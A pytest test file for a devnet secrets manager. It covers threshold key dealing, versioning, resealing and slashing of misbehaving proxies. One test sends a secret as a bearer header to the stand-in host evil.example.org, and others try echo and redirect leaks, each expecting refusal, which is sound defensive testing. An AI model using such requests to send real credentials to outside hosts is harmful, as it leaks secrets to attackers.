"""Secrets as people keep them: a devnet's proxies deal a key, deal it again, and release values to whom policies name."""

import json
import re

import pytest
from nitro import encode
from world import Refused, World, a_job, result, until

VALUE = "sk-very-secret"
GOVERNANCE, SECRETS = (f"0x{number:040x}" for number in (0x09, 0x04))


def keep(world, name, value, *more, hosts="api.weather.test"):
    (world.folder / "value.txt").write_text(value + "\n")
    named = ["--hosts", hosts] if hosts else []
    return world.run("secret", "set", name, "--value-file", "value.txt", "--jobs", "http", *named, *more)


def test_a_secret_survives_its_committees(tmp_path):
    """A-241, A-242, A-243: what was sealed before the key was dealt again opens after it, and nobody but the owner can ask for it."""
    # Phases of a second and a half: a busy computer has time to answer in each.
    rows = ["secrets.term=60", "secrets.phase=15"]
    options = ["--block-time", "100ms", "--runners", "0", "--no-gateway", *(option for row in rows for option in ("--parameter", row))]
    with World(tmp_path, *options) as world:
        kept = keep(world, "WEATHER_KEY", VALUE, "--any-runner")
        assert (kept["version"], "any runner that is drawn could keep this value" in kept["readers"]) == (1, True)
        assert world.run("secret", "get", "WEATHER_KEY")["value"] == VALUE
        first = world.run("secret", "committee")["key"]
        assert (first["epoch"], len(first["members"]), first["threshold"]) == (1, 4, 3)
        again = until("two more dealings", lambda: (key := world.run("secret", "committee")["key"])["epoch"] >= 3 and key)
        assert again["master"] == first["master"]
        assert world.run("secret", "get", "WEATHER_KEY")["value"] == VALUE

        assert keep(world, "WEATHER_KEY", "another", "--any-runner")["version"] == 2
        assert world.run("secret", "get", "WEATHER_KEY")["value"] == "another"
        assert world.run("secret", "get", "WEATHER_KEY", "--version", "1")["value"] == VALUE
        with pytest.raises(Refused, match="secret_not_found"):
            world.run("secret", "get", "WEATHER_KEY", account=1)
        world.run("secret", "pause", "WEATHER_KEY")
        with pytest.raises(Refused, match="secret_paused"):
            world.run("secret", "get", "WEATHER_KEY")
        world.run("secret", "resume", "WEATHER_KEY")
        world.run("secret", "rm", "WEATHER_KEY")
        assert world.run("secret", "ls") == []
        assert keep(world, "WEATHER_KEY", "third", "--any-runner")["version"] == 3, "no version is sealed to twice"


def test_a_policy_names_somebody(tmp_path):
    """`secret set` refuses to guess who may see a value, values that do not fit, and secrets that no job can use."""
    with World(tmp_path, "--block-time", "100ms", "--runners", "0", "--no-gateway") as world:
        with pytest.raises(Refused, match="nobody is named who may see the value"):
            keep(world, "KEY", VALUE)
        with pytest.raises(Refused, match="is not a name"):
            keep(world, "key", VALUE, "--any-runner")
        with pytest.raises(Refused, match="at most 65020 bytes"):
            keep(world, "KEY", "x" * 70_000, "--any-runner")
        with pytest.raises(Refused, match="`copies` is 10"):
            keep(world, "KEY", VALUE, "--any-runner", "--copies", "10")
        with pytest.raises(Refused, match="value.txt has no value"):
            keep(world, "KEY", "", "--any-runner")
        with pytest.raises(Refused, match="could send the value to no host"):
            keep(world, "KEY", VALUE, "--any-runner", hosts=None)
        with pytest.raises(Refused, match="take no secrets"):
            world.run("secret", "set", "KEY", "--value-file", "value.txt", "--jobs", "llm", "--any-runner")
        assert world.run("secret", "ls") == [], "nothing was paid for"


def test_a_web_job_uses_a_secret(tmp_path):
    """A-234, A-241: the drawn runner puts the value into a header, for the host that the policy names, and gives no result that contains it."""
    options = ["--block-time", "200ms", "--runners", "2", "--no-gateway", "--no-demo", "--allow-private"]
    with World(tmp_path, *options) as world:
        web = world.server("web")
        world.runners_are(2)
        keep(world, "WEATHER_KEY", VALUE, "--any-runner", hosts="127.0.0.1")

        def job(path, **more):
            return a_job("Http", {"url": f"{web}{path}", "headers": {"authorization": "Bearer ${WEATHER_KEY}"}}, secrets=["WEATHER_KEY"], **more)

        submitted = world.submit(job("/guarded"))
        done = world.over(submitted)
        assert (done["status"], result(done)) == ("settled", '{"is_right": true}')
        submitted = world.get(f"/job/{submitted}")
        assert VALUE not in str(submitted) and VALUE.encode().hex() not in str(submitted)
        receipts = lambda *of: [row for row in world.run("secret", "receipts", *of) if row["state"] == "closed"]
        (receipt,) = until("the receipt of the release", lambda: receipts("--job", submitted["job_id"]))
        assert (receipt["subject"], receipt["version"], receipt["recipient"]) == (submitted["job_id"], 1, submitted["members"][0]["runner"])
        assert (receipt["epoch"], len(receipt["served"])) == (1, 3), "as many as have to answer"
        assert receipts() == [receipt], "of all secrets of the account, the same"

        echoed = world.over(world.submit(job("/guarded?echo=1")))
        assert echoed["status"] == "failed" and VALUE not in str(echoed), "the value stays in the runner"
        led_away = world.over(world.submit(job("/away?to=http://localhost:1/")))
        assert led_away["status"] == "failed"
        with pytest.raises(Refused, match="release_refused"):
            headers = {"authorization": "Bearer ${WEATHER_KEY}"}
            world.submit(a_job("Http", {"url": "https://evil.example.org/", "headers": headers}, secrets=["WEATHER_KEY"]))
        with pytest.raises(Refused, match="OTHER_KEY.* is the placeholder of a secret that secrets does not name"):
            world.submit(a_job("Http", {"url": web, "headers": {"authorization": "Bearer ${OTHER_KEY}"}}, secrets=["WEATHER_KEY"]))
        with pytest.raises(Refused, match="secrets names WEATHER_KEY, and no header, body or json"):
            world.submit(a_job("Http", {"url": web}, secrets=["WEATHER_KEY"]))
        local = lambda path, *more: world.run("job", "run", "--local", json.dumps(job(path)), "--allow-private", *more)
        with pytest.raises(Refused, match="--secret WEATHER_KEY=@FILE"):
            local("/guarded")
        assert local("/guarded", "--secret", "WEATHER_KEY=@value.txt")["result"] == '{"is_right": true}', "this computer has the value from a file"
        with pytest.raises(Refused, match="contains the value of the secret WEATHER_KEY"):
            local("/guarded?echo=1", "--secret", "WEATHER_KEY=@value.txt")
        # Decision 778: values are no templates, and a job names a long one a few times only.
        for name, text in (("a", "${B}" * 16_000), ("b", "x" * 60_000)):
            (world.folder / f"{name}.txt").write_text(text)
        endless = a_job("Http", {"url": web, "method": "POST", "body": "${A}" * 20 + "${B}"}, secrets=["A", "B"])
        with pytest.raises(Refused, match="the request has more than 1048576 bytes"):
            world.run("job", "run", "--local", json.dumps(endless), "--allow-private", "--secret", "A=@a.txt", "--secret", "B=@b.txt")
        with pytest.raises(Refused, match="secrets_not_applicable"):
            world.submit(a_job("Llm", {"prompt": "${WEATHER_KEY}"}, secrets=["WEATHER_KEY"]))


def test_secrets_move_to_a_new_key(tmp_path):
    """Decision 147: governance has a new key made; `reseal` moves an account's secrets to it, and what was sealed before opens until the old one's sunset."""
    with World(tmp_path, "--block-time", "100ms", "--runners", "0", "--no-gateway") as world:
        for name in ("KEY", "OTHER"):
            keep(world, name, f"{VALUE} of {name}", "--any-runner")
        world.run("chain", "impersonate", GOVERNANCE, "execute", SECRETS, "rekey", "--payload", "0x" + encode({}).hex())
        until("the new key", lambda: world.run("secret", "committee")["key"]["key_id"] == 2)
        value = lambda name, *more: world.run("secret", "get", name, *more)["value"]
        shown = lambda name: [world.run("secret", "show", name)[field] for field in ("key_id", "version")]
        assert (value("KEY"), shown("KEY")) == (f"{VALUE} of KEY", [1, 1])

        world.run("secret", "pause", "OTHER")
        done = world.run("secret", "reseal", "--all")
        assert (done["key_id"], [row["name"] for row in done["resealed"]], done["unchanged"], done["paused"]) == (2, ["KEY"], [], ["OTHER"])
        assert (shown("KEY"), shown("OTHER")) == ([2, 2], [1, 1])
        assert (value("KEY"), value("KEY", "--version", "1")) == (f"{VALUE} of KEY",) * 2
        world.run("secret", "resume", "OTHER")
        assert [row["version"] for row in world.run("secret", "reseal", "OTHER", "KEY")["resealed"]] == [2]
        assert value("OTHER") == f"{VALUE} of OTHER"
        done = world.run("secret", "reseal", "--all")
        assert (done["resealed"], sorted(done["unchanged"]), done["paused"]) == ([], ["KEY", "OTHER"], [])
        with pytest.raises(Refused, match="has no secret"):
            world.run("secret", "reseal", "MISSING")


def test_a_secret_that_opens_no_more_keeps_no_other_back(tmp_path):
    """Decision 147: after the sunset of its key a secret is lost. `reseal` names it, and moves the others."""
    with World(tmp_path, "--block-time", "100ms", "--runners", "0", "--no-gateway", "--parameter", "secrets.sunset=1") as world:
        for name in ("KEY", "OTHER"):
            keep(world, name, VALUE, "--any-runner")
        world.run("chain", "impersonate", GOVERNANCE, "execute", SECRETS, "rekey", "--payload", "0x" + encode({}).hex())
        until("the new key", lambda: world.run("secret", "committee")["key"]["key_id"] == 2)
        with pytest.raises(Refused, match="not opened: ") as refused:
            world.run("secret", "reseal", "--all")
        done = json.loads(refused.value.printed)
        assert (done["resealed"], sorted(done["not_opened"])) == ([], ["KEY", "OTHER"])


def proxies_said(world, name):
    """The events of 0x04 with this name."""
    return [log["value"] for log in world.get(f"/actor/{SECRETS}/logs?order=desc&limit=200")["logs"] if log["name"] == name]


def test_proxies_that_lie_pay(tmp_path):
    """A-240: one of four signs answers that do not hold. Whoever asks uses none of them, and shows them to the chain, which takes stake and seat."""
    with World(tmp_path, "--block-time", "100ms", "--runners", "0", "--no-gateway", "--proxy-bad", "1") as world:
        keep(world, "KEY", VALUE, "--any-runner")

        def is_slashed():
            assert world.run("secret", "get", "KEY")["value"] == VALUE
            return proxies_said(world, "proxy.slashed")

        # The answers of the three others may come first.
        (slashed,) = until("an accusation", is_slashed)
        liar = world.run("call", "secrets-manager", "get_proxy", "--address", slashed["proxy"])
        assert slashed["amount"] * 20 == liar["stake"] + slashed["amount"], "5 %"
        assert liar["excluded_until"] > world.get("/height")["height"]
        assert world.run("secret", "get", "KEY")["value"] == VALUE


def test_proxies_that_lie_pay_for_a_release_that_fails(tmp_path):
    """A-240: two of four sign answers that do not hold, and the others are too few. Nothing is released, and both are accused all the same."""
    with World(tmp_path, "--block-time", "100ms", "--runners", "0", "--no-gateway", "--proxy-bad", "2") as world:
        keep(world, "KEY", VALUE, "--any-runner")
        with pytest.raises(Refused, match="2 members answered, and 3 are needed"):
            world.run("secret", "get", "KEY")
        # Each accusation was waited for.
        assert len({slashed["proxy"] for slashed in proxies_said(world, "proxy.slashed")}) == 2


def test_silent_proxies_pay(tmp_path):
    """A-241: two of four answer, and that is nothing. Who is made to answer on the chain, and does not, loses stake."""
    with World(tmp_path, "--block-time", "100ms", "--runners", "0", "--no-gateway", "--proxy-silent", "2") as world:
        keep(world, "KEY", VALUE, "--any-runner")
        with pytest.raises(Refused, match="2 members answered, and 3 are needed") as refused:
            world.run("secret", "get", "KEY")
        silent = {int(place) for place in re.findall(r"member (\d): it answers 503", str(refused.value))}
        assert len(silent) == 2
        (release,) = world.run("secret", "receipts")
        assert (release["state"], release["served"]) == ("open", None)
        served = sum(1 << place for place in range(4) if place not in silent)
        world.run("call", "secrets-manager", "demand", "--release-id", release["release_id"], "--served", served, "--value", "10cby")
        (over,) = until("the end of the demand", lambda: proxies_said(world, "release.demand_over"))
        assert over["silent"] in {1 << place for place in silent}, "one more would have sufficed, and one was asked"
        (slashed,) = proxies_said(world, "proxy.slashed")
        proxy = world.run("call", "secrets-manager", "get_proxy", "--address", slashed["proxy"])
        assert (slashed["amount"] * 100, proxy["silences"]) == (proxy["stake"] + slashed["amount"], 1), "1 %"
